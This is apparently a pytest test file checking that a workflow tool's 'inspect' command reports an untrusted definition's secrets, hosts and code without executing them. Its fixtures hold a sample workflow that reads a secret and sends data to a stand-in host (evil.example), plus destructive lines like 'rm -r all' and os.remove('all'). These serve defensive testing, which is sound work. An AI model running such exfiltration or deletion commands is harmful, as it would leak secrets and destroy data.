"""``floworch inspect``: what it would do, and nothing of it done."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

HOSTILE: dict[str, Any] = {
    "id": "hostile",
    "nodes": {
        "own": {"action": "evil.act", "params": {"x": "{{ secrets.BANK }}"}},
        "send": {"action": "http.request", "params": {"url": "https://evil.example/{{ inputs.x }}"}},
    },
    "inputs": {"x": {}},
    "edges": [{"from": "own", "to": "send"}],
}


@pytest.fixture
def hostile(cli: Any, tmp_path: Path) -> Path:
    cli.env["FLOWORCH_CONFIG_DIR"] = str(tmp_path / "config")
    mark = tmp_path / "it ran"
    (tmp_path / "actions").mkdir()
    effect = f"open({str(mark)!r}, 'a').write('x')\n"
    for name in ("evil.py", "__init__.py", "conftest.py", "sitecustomize.py"):
        (tmp_path / "actions" / name).write_text(
            f"{effect}from floworch import action\n@action('evil.act')\ndef act(x):\n    {effect}\n"
        )
    path: Path = cli.file(HOSTILE)
    return path


def test_nothing_of_a_hostile_definition_runs_before_it_is_trusted(cli: Any, hostile: Path, tmp_path: Path) -> None:
    text = cli("inspect", hostile).stdout
    for word in ("evil.example", "BANK", "evil.py", "evil.act", "Not trusted", "sha256:"):
        assert word in text
    assert "is not imported before you trust" in cli("validate", hostile).stdout
    cli("graph", hostile, "--format", "mermaid")
    cli("fmt", hostile)
    cli("diff", hostile, hostile)
    cli("actions", "list")
    refused = cli("run", hostile, "--set", "x=1", code=5).stderr
    assert "is not trusted" in refused
    assert "floworch trust" in refused
    cli("run", hostile, "--set", "x=1", "--detach", code=5)
    assert cli.json("runs", "--json") == []
    assert not (tmp_path / "it ran").exists()


def test_json_has_one_list_for_each_kind(cli: Any, hostile: Path) -> None:
    found = cli.json("inspect", hostile, "--json")
    assert (found["trusted"], found["why"], found["changed"]) == (False, "", False)
    assert found["hosts"] == [{"what": "evil.example", "node": "send"}]
    assert found["secrets"] == [{"what": "BANK", "node": "own"}]
    assert len(found["local_files"]) == 4
    assert found["trust_needed"] is True
    assert "Python code beside it" in found["reasons"][0]
    assert set(found) >= {"paths", "commands", "code", "connections", "unknown", "calls", "digest"}


def test_a_harmless_definition_says_so(cli: Any, hello: Path, tmp_path: Path) -> None:
    cli.env["FLOWORCH_CONFIG_DIR"] = str(tmp_path / "config")
    text = cli("inspect", hello).stdout
    assert "touches nothing" in text
    assert "Not trusted. 'floworch run' needs no trust for it" in text
    assert cli.json("inspect", hello, "--json")["trust_needed"] is False
    cli.env["FLOWORCH_REQUIRE_TRUST"] = "1"
    assert "asks for trust: FLOWORCH_REQUIRE_TRUST is set" in cli("inspect", hello).stdout
    del cli.env["FLOWORCH_REQUIRE_TRUST"]
    cli("trust", hello)
    assert "you trusted this content" in cli("inspect", hello).stdout
    cli("inspect", tmp_path / "missing.flow.json", code=2)
    hello.write_text(hello.read_text().replace("done", "over"))
    text = cli("inspect", hello).stdout
    assert "Not trusted as it is now: it was changed since you trusted it. 'floworch run' needs no trust" in text


def test_all_of_the_code_can_be_read_before_it_is_agreed_to(cli: Any, tmp_path: Path) -> None:
    cli.env["FLOWORCH_CONFIG_DIR"] = str(tmp_path / "config")
    code = "rows = [1, 2, 0]\nif rows:\n    import os\n\nos.remove('all')\n"
    nodes = {
        "calc": {"action": "python.code", "params": {"code": code}},
        "one": {"action": "python.code", "params": {"code": "1 + 1"}},
        "job": {"action": "shell.run", "params": {"command": "ls\nrm -r all", "shell": True}},
    }
    file = cli.file({"id": "code", "nodes": nodes})
    text = cli("inspect", file).stdout
    assert (
        "Runs Python code\n  rows = [1, 2, 0] …  (calc), 5 lines:\n"
        "      rows = [1, 2, 0]\n      if rows:\n          import os\n\n      os.remove('all')\n"
        "  1 + 1  (one)\n" in text
    )
    assert "  ls …  (job), 2 lines:\n      ls\n      rm -r all\n" in text
    assert cli.json("inspect", file, "--json")["code"][0] == {"what": code, "node": "calc"}


def test_what_is_said_of_trust_does_not_gainsay_the_report(cli: Any, tmp_path: Path) -> None:
    """(interfaces.md section 3) Naming a file is consent to its built-in actions."""
    cli.env["FLOWORCH_CONFIG_DIR"] = str(tmp_path / "config")
    code = {"action": "python.code", "params": {"code": "1 + 1"}}
    read = {"action": "util.log", "params": {"message": "{{ secrets.NOT_STORED }}"}}
    text = cli("inspect", cli.file({"id": "code", "nodes": {"calc": code}})).stdout
    assert "naming the file is consent to what stands above. Trust is asked only for Python files beside" in text
    assert text.splitlines()[-2].endswith("This one uses none of these.")
    text = cli("inspect", cli.file({"id": "both", "nodes": {"calc": code, "read": read}})).stdout
    assert "Reads secrets" in text
    assert "the secrets above come from the environment or are not set." in text
    assert "reads no secret" not in text
    text = cli("inspect", cli.file({"id": "none", "nodes": {"n": {"action": "util.log"}}})).stdout
    assert "needs no trust for it: there is nothing to agree to." in text
